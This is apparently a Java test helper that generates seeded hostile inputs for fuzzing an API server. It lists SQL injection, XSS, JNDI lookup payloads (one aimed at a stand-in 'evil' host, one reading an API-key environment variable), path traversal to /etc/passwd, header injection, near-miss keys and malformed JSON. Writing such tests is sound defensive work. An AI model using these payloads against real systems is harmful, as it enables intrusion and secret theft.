package fr.openfun.mork.adapter.api;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;
import java.util.Set;

/**
 * Values a hostile client sends, drawn from a seeded {@link Random}: injection strings, traversal,
 * control and odd Unicode characters, the configured keys themselves (which must never come back),
 * near-miss keys, and JSON bodies no route accepts.
 */
final class HostileValues {
  static final Set<String> KEYS = Set.of(ApiServer.ADMIN, ApiServer.JOANIE, ApiServer.ASHLEY);
  static final List<String> STRINGS =
      List.of(
          "' OR 1=1 --",
          "1; DROP TABLE users",
          "\" OR \"\"=\"",
          "1 UNION SELECT password FROM users",
          "<script>alert(1)</script>",
          "\"><img src=x onerror=alert(1)>",
          "javascript:alert(1)",
          "${jndi:ldap://x}",
          "${jndi:rmi://evil/a}",
          "${env:MORK_API_KEYS}",
          "#{7*7}",
          "{{7*7}}",
          "../../etc/passwd",
          "..%2f..%2fetc%2fpasswd",
          "..\\..\\windows\\win.ini",
          "....//....//etc/passwd",
          "file:///etc/passwd",
          "日本語-ü-🙂",
          "\u202Eevil",
          "\uFEFF\u200B",
          "Ａｄｍｉｎ",
          "a\u0000b",
          "\r\nX-Injected: 1",
          "\u001b[31m",
          "%s%s%n",
          "NaN",
          "-1",
          "1e309",
          ApiServer.ADMIN,
          ApiServer.JOANIE,
          ApiServer.ASHLEY);

  /** Traversal as sent on the wire: encoded separators, double encoding, overlong UTF-8. */
  static final List<String> TRAVERSALS =
      List.of(
          "..%2f..%2fetc%2fpasswd",
          "..%2F..%2F..%2Fetc%2Fpasswd",
          "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
          "..%5c..%5cwindows%5cwin.ini",
          "..%252f..%252fetc%252fpasswd",
          "%c0%ae%c0%ae%c0%afetc%c0%afpasswd",
          "..;%2f..;%2fetc%2fpasswd");

  /** Percent-encoded sequences that decode to no valid UTF-8, or to NUL or an overlong slash. */
  static final List<String> BAD_ESCAPES =
      List.of("%C3%28", "%FF%FE", "%ED%A0%80", "%C0%AF", "%00", "%zz", "%", "%E0%80%AF");

  private final Random random;

  HostileValues(Random random) {
    this.random = random;
  }

  <T> T pick(List<T> values) {
    return values.get(random.nextInt(values.size()));
  }

  boolean chance(int percent) {
    return random.nextInt(100) < percent;
  }

  int between(int min, int max) {
    return min + random.nextInt(max - min + 1);
  }

  String string() {
    return chance(85) ? pick(STRINGS) : "x".repeat(between(300, 3000));
  }

  /** Every byte but unreserved characters percent-encoded, so no dot segment or slash survives. */
  static String encode(String raw) {
    StringBuilder out = new StringBuilder();
    for (byte b : raw.getBytes(StandardCharsets.UTF_8)) {
      char c = (char) (b & 0xff);
      if ((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') || c == '-') {
        out.append(c);
      } else {
        out.append('%').append(String.format("%02X", b & 0xff));
      }
    }
    return out.toString();
  }

  /** A path segment or query value: encoded once or twice, a bad escape, or traversal. */
  String encoded() {
    return switch (random.nextInt(5)) {
      case 0 -> encode(encode(string()));
      case 1 -> pick(BAD_ESCAPES) + encode(string());
      case 2 -> pick(TRAVERSALS);
      default -> encode(string());
    };
  }

  /** A key that is not one: absent characters, one changed, other case, joined, non-ASCII. */
  String nearMissKey() {
    String key = pick(List.copyOf(KEYS));
    int at = random.nextInt(key.length());
    String miss =
        switch (random.nextInt(7)) {
          case 0 -> key.substring(0, key.length() - 1);
          case 1 -> key + (char) between('!', '~');
          case 2 -> key.substring(0, at) + (char) between('!', '~') + key.substring(at + 1);
          case 3 -> key.toUpperCase(java.util.Locale.ROOT);
          case 4 -> key + "," + pick(List.copyOf(KEYS));
          case 5 -> key.substring(0, at) + "é" + key.substring(at + 1);
          default -> "Bearer " + key;
        };
    return KEYS.contains(miss.strip()) ? miss + "x" : miss;
  }

  /** JSON text of any shape; a member named like a real field never holds a valid value. */
  String json(int depth) {
    return switch (depth <= 0 ? random.nextInt(5) : random.nextInt(7)) {
      case 0 -> "null";
      case 1 -> random.nextBoolean() ? "true" : "false";
      case 2 -> pick(List.of("0", "-1", "1.5", "1e400", "9".repeat(between(20, 45)), "-0"));
      case 3, 4 -> quote(string());
      case 5 -> array(depth);
      default -> object(depth);
    };
  }

  private String array(int depth) {
    StringBuilder out = new StringBuilder("[");
    for (int i = between(0, 4); i > 0; i--) {
      out.append(json(depth - 1)).append(i > 1 ? "," : "");
    }
    return out.append(']').toString();
  }

  private String object(int depth) {
    List<String> names =
        List.of("type", "deletion_status", "reason", "fingerprint", "dry_run", "limit", "email");
    StringBuilder out = new StringBuilder("{");
    for (int i = between(0, 4); i > 0; i--) {
      String name = chance(70) ? pick(names) : pick(List.of("__proto__", "$where", "", string()));
      String value = name.equals("reason") ? notAString(depth) : json(depth - 1);
      out.append(quote(name)).append(':').append(value).append(i > 1 ? "," : "");
    }
    return out.append('}').toString();
  }

  private String notAString(int depth) {
    String value = json(depth - 1);
    return value.startsWith("\"") ? "[" + value + "]" : value;
  }

  static String quote(String raw) {
    StringBuilder out = new StringBuilder("\"");
    for (char c : raw.toCharArray()) {
      switch (c) {
        case '"' -> out.append("\\\"");
        case '\\' -> out.append("\\\\");
        default -> {
          if (c < 0x20) {
            out.append(String.format("\\u%04x", (int) c));
          } else {
            out.append(c);
          }
        }
      }
    }
    return out.append('"').toString();
  }

  /** A body no route accepts: a wrong value, malformed, invalid UTF-8, too deep or trailing. */
  byte[] body() {
    String json = json(4);
    return switch (random.nextInt(9)) {
      case 0 -> utf8(json.substring(0, random.nextInt(json.length())) + "{");
      case 1 -> corrupt(utf8(json));
      case 2 -> utf8("{\"deletion_status\":\"deleted\"} " + json);
      case 3 -> utf8((random.nextBoolean() ? "[" : "{\"a\":").repeat(between(33, 3000)));
      case 4 -> utf8("{\"type\":1,\"type\":2}");
      case 5 -> utf8(pick(List.of("{'a':1}", "{a:1}", "/* */{}", "[NaN]", "{\"a\":1,}", "\0")));
      case 6 -> utf8("{\"deletion_status\":\"dele\0ted\"}");
      default -> utf8(json);
    };
  }

  /** Random bytes 0x80..0xff spliced in: never valid UTF-8 where JSON needs it. */
  private byte[] corrupt(byte[] json) {
    int at = random.nextInt(json.length + 1);
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.write(json, 0, at);
    out.write(0xC3);
    out.write(0x28 + random.nextInt(2) * 0xD7);
    out.write(json, at, json.length - at);
    return out.toByteArray();
  }

  static byte[] utf8(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }
}
